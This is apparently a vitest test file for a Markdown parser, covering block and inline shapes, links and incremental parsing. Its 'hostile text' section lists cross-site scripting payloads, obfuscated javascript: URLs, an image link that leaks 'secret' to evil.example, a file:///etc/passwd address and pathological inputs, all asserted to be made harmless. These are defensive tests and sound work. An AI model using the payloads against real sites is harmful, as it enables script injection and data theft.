import { describe, expect, test } from "vitest";
import { GrowingText, parse } from "./parse";
import type { Block, Inline } from "./tree";

const KINDS = ["paragraph", "heading", "code", "quote", "list", "table", "rule"];
const INLINE_KINDS = ["text", "code", "break", "strong", "emphasis", "deleted", "link"];

/** All inline nodes below `blocks`, having checked that every shape is one of the tree's. */
function inlines(blocks: Block[]): Inline[] {
  return blocks.flatMap((block) => {
    expect(KINDS).toContain(block.kind);
    if (block.kind === "paragraph" || block.kind === "heading") return flat(block.children);
    if (block.kind === "quote") return inlines(block.children);
    if (block.kind === "list") return block.items.flatMap((item) => inlines(item.children));
    if (block.kind === "table") return flat([block.head, ...block.rows].flat(2));
    return [];
  });
}

function flat(nodes: Inline[]): Inline[] {
  return nodes.flatMap((node) => {
    expect(INLINE_KINDS).toContain(node.kind);
    return "children" in node ? [node, ...flat(node.children)] : [node];
  });
}

function words(source: string): string {
  return inlines(parse(source))
    .map((node) => ("text" in node ? node.text : node.kind === "break" ? "\n" : ""))
    .join("");
}

const targets = (source: string) =>
  inlines(parse(source)).flatMap((node) => (node.kind === "link" ? [node.target] : []));

const SAMPLE = `# Title

Some *emphasis*, **strong**, ~~gone~~ and \`code\`.

1. one
2. two
   - inner
   - [x] done

> quoted

| a | b |
|:-:|--:|
| 1 | 2 |

\`\`\`python
print("<b>")
\`\`\`

---

The end & more &lt;here&gt;.`;

describe("parse", () => {
  test("makes the shapes of the tree", () => {
    const blocks = parse(SAMPLE);
    expect(blocks.map((block) => block.kind)).toEqual([
      "heading",
      "paragraph",
      "list",
      "quote",
      "table",
      "code",
      "rule",
      "paragraph",
    ]);
    expect(blocks[4]).toMatchObject({ align: ["center", "right"] });
    expect(blocks[5]).toEqual({ kind: "code", language: "python", text: 'print("<b>")' });
    expect(blocks[7]).toEqual({ kind: "paragraph", children: [{ kind: "text", text: "The end & more <here>." }] });
  });

  test("keeps the state of a task and the start of a list", () => {
    const [list] = parse("3. [ ] open\n4. [x] done");
    expect(list).toMatchObject({ kind: "list", start: 3, items: [{ done: false }, { done: true }] });
    expect(words("- [x] done")).toBe("done");
  });

  test("links lead to plain addresses and name their place", () => {
    const [block] = parse("[here](https://user.example:8443/a?b=c)");
    expect(block).toMatchObject({
      children: [{ kind: "link", target: "https://user.example:8443/a?b=c", place: "user.example:8443" }],
    });
    expect(targets("https://a.example and <mailto:b@c.example>")).toEqual(["https://a.example/", "mailto:b@c.example"]);
  });

  test("Windows line ends read as line ends", () => {
    expect(parse("a\r\n\r\nb")).toEqual(parse("a\n\nb"));
  });
});

describe("hostile text", () => {
  test.each([
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "before <svg onload=alert(1)> after",
    "<!-- a hidden comment -->",
    '<iframe src="https://evil.example"></iframe>',
    "<a href='javascript:alert(1)'>x</a>",
    "<style>*{display:none}</style>",
    "![exfil](https://evil.example/?q=secret)",
  ])("shows %s as it was written", (source) => {
    expect(words(source)).toBe(source);
    expect(targets(source)).toEqual([]);
  });

  test.each([
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6a;avascript:alert(1)",
    "java&Tab;script:alert(1)",
    "java\tscript:alert(1)",
    "\u0001javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "blob:https://a.example/1",
    "/api/sign-out",
    "//evil.example",
    "#top",
    "https://bank.example@evil.example/",
    "https:evil.example",
    "https://",
    `https://evil.example/${"a".repeat(3000)}`,
  ])("makes no link of %s", (address) => {
    expect(targets(`[x](${address})`)).toEqual([]);
    expect(targets(`[x](<${address}>)`)).toEqual([]);
    expect(targets(`[x][r]\n\n[r]: ${address}`)).toEqual([]);
    expect(targets(`<${address}>`)).toEqual([]);
  });

  test("an image by reference is never an address", () => {
    expect(targets("![x][r]\n\n[r]: https://evil.example/pixel.png")).toEqual([]);
  });

  test.each([
    ["quotes", "> ".repeat(3000)],
    ["lists", Array.from({ length: 300 }, (_, depth) => `${"  ".repeat(depth)}- x`).join("\n")],
    ["brackets", "[".repeat(20_000)],
    ["link openers", "[a](".repeat(4000)],
    ["images", "![".repeat(10_000)],
    ["emphasis", "*a ".repeat(6000)],
    ["mixed emphasis", "**_a~~".repeat(3000)],
    ["backticks", Array.from({ length: 180 }, (_, n) => "`".repeat(n + 1)).join(" ")],
    ["tags", "<a ".repeat(6000)],
    ["comments", "<!--".repeat(5000)],
    ["entities", "&#x".repeat(6000)],
    ["table", `|a|b|\n|-|-|\n${"|".repeat(19_000)}`],
    ["autolinks", "https://a.".repeat(1900)],
    ["emphasis in many paragraphs", `${"**_a~~".repeat(99)}\n\n`.repeat(330)],
    ["one paragraph as long as is parsed", "**_a~~".repeat(33_000)],
    ["one line of list markers", "- ".repeat(3000)],
    ["more than is parsed", "*a* ".repeat(60_000)],
  ])("reads %s in bounded time", (_, source) => {
    const begun = performance.now();
    inlines(parse(source));
    expect(performance.now() - begun).toBeLessThan(2500);
  });
});

describe("GrowingText", () => {
  test("ends where parsing the whole ends, and reuses what is settled", () => {
    const growing = new GrowingText();
    let before: Block[] = [];
    let reused = 0;
    for (let length = 1; length <= SAMPLE.length; length += 1) {
      const now = growing.update(SAMPLE.slice(0, length));
      reused += now.filter((block, index) => block === before[index]).length;
      before = now;
    }
    expect(before).toEqual(parse(SAMPLE));
    expect(reused).toBeGreaterThan(SAMPLE.length);
  });

  test("a text that starts anew is read anew", () => {
    const growing = new GrowingText();
    growing.update("one\n\ntwo\n\nthree");
    expect(growing.update("other")).toEqual(parse("other"));
  });
});
